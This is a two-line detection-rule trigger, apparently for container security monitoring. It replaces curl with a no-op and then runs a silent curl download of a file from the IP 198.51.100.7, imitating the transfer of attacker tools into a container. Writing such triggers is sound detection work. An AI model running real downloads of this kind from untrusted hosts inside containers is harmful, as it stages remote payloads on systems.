# rule: Launch Ingress Remote File Copy Tools in Container
# title: a tool for downloads runs
cp /bin/true /usr/local/bin/curl; curl -s -O http://198.51.100.7/x
